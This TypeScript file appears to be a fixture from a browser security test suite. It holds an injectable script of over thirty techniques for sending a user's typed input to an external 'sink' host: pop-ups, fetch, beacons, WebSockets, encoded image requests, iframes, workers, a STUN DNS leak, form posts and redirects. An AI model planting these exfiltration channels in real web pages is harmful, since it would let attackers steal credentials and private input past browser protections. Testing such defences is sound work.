/** What a portal that wants the typed values for somebody else would run. */

/**
 * Everything a hostile script could do with what is typed, one after the other; none may stop the others. Pop-ups come
 * first, while the browser still takes them for the user's wish.
 */
export const attacks = (sink: string) => `
  const sink = '${sink}', ws = sink.replace('http', 'ws');
  const attempts = (v) => [
    () => { window.open(sink + '/popup?' + v); },
    () => { window.open('/redirect?to=' + encodeURIComponent(sink + '/popupredirect?' + v)); },
    () => { const w = window.open('about:blank'); w?.document.write('<script>fetch("' + sink + '/popupscript?' + v + '", {mode:"no-cors"});new WebSocket("' + ws + '/popupsocket?' + v + '")<\\/script>'); },
    () => fetch(sink + '/fetch', { method: 'POST', body: v, mode: 'no-cors' }).catch(() => {}),
    () => fetch(sink + '/keepalive?' + v, { keepalive: true, mode: 'no-cors' }).catch(() => {}),
    () => { const x = new XMLHttpRequest(); x.open('POST', sink + '/xhr'); x.send(v); },
    () => navigator.sendBeacon(sink + '/beacon', v),
    () => new WebSocket(ws + '/socket?' + v),
    () => new EventSource(sink + '/events?' + v),
    () => { new Image().src = sink + '/img?v=' + v; },
    () => { new Image().src = sink + '/img64/' + btoa(v); },
    () => { new Image().src = sink + '/img64b/' + btoa('x' + v).replace(/=/g, ''); },
    () => { new Image().src = sink + '/imghex/' + [...v].map((c) => c.charCodeAt(0).toString(16)).join(''); },
    () => { new Image().src = sink + '/imgpct/' + [...v].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''); },
    () => { const s = document.createElement('script'); s.src = sink + '/script.js?' + v.toLowerCase(); document.head.append(s); },
    () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = sink + '/style.css?' + v; document.head.append(l); },
    () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = sink + '/prefetch?' + v; document.head.append(l); },
    () => { const s = document.createElement('style'); s.textContent = '@font-face{font-family:z;src:url(' + sink + '/font?' + v + ')} body{font-family:z;background:url(' + sink + '/bg?' + v + ')}'; document.head.append(s); },
    () => { const f = document.createElement('iframe'); f.src = sink + '/iframe?' + v; document.body.append(f); },
    () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(sink + '/blankframe', { method: 'POST', body: v, mode: 'no-cors' }).catch(() => {}); new f.contentWindow.WebSocket(ws + '/blanksocket?' + v); },
    () => { const f = document.createElement('iframe'); f.srcdoc = '<script>new WebSocket("' + ws + '/srcdocsocket?' + v + '");navigator.sendBeacon("' + sink + '/srcdocbeacon", "' + v + '")<\\/script>'; document.body.append(f); },
    () => { const f = document.createElement('iframe'); f.src = 'data:text/html,<script>new WebSocket("' + ws + '/datasocket?' + v + '");fetch("' + sink + '/datafetch?' + v + '")<\\/script>'; document.body.append(f); },
    () => { const o = document.createElement('object'); o.data = sink + '/object?' + v; document.body.append(o); },
    () => { const a = document.createElement('a'); a.href = '#'; a.ping = sink + '/ping?' + v; document.body.append(a); a.click(); },
    () => { const code = 'fetch("' + sink + '/blobworker?' + v + '").catch(()=>{});new WebSocket("' + ws + '/blobworkersocket?' + v + '")'; new Worker(URL.createObjectURL(new Blob([code]))); },
    () => { const w = new Worker('/worker.js'); w.postMessage({ sink, ws, v }); },
    () => { const w = new SharedWorker('/shared.js'); w.port.postMessage({ sink, ws, v }); },
    () => navigator.serviceWorker?.register('/sw.js').then((r) => (r.installing ?? r.active).postMessage({ sink, v })).catch(() => {}),
    () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + v + '.' + location.hostname }] }); },
    () => { const f = document.createElement('form'); f.action = sink + '/form'; f.method = 'post'; f.target = 'x'; f.innerHTML = '<input name=v value=' + v + '>'; document.body.append(f); const i = document.createElement('iframe'); i.name = 'x'; document.body.append(i); f.submit(); },
    () => fetch('/redirect?to=' + encodeURIComponent(sink + '/fetchredirect?' + v), { mode: 'no-cors' }).catch(() => {}),
    () => { new Image().src = '/redirect?to=' + encodeURIComponent(sink + '/imgredirect?' + v); },
    () => { history.replaceState(0, '', '?rfc=' + v); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = sink + '/referrer'; },
    () => { location.href = sink + '/navigate?' + v; },
  ];
  const attack = async (v) => { for (const attempt of attempts(v)) { try { attempt(); } catch {} await new Promise((r) => setTimeout(r, 15)); } };
`;

export const workerCode = `onmessage = (e) => { const { sink, ws, v } = e.data; fetch(sink + '/worker?' + v, { mode: 'no-cors' }).catch(() => {}); new WebSocket(ws + '/workersocket?' + v); };`;
export const sharedCode = `onconnect = (c) => { c.ports[0].onmessage = (e) => { const { sink, ws, v } = e.data; fetch(sink + '/shared?' + v, { mode: 'no-cors' }).catch(() => {}); new WebSocket(ws + '/sharedsocket?' + v); }; };`;
export const script = (body: string) => ({ body, headers: { 'content-type': 'text/javascript' } });
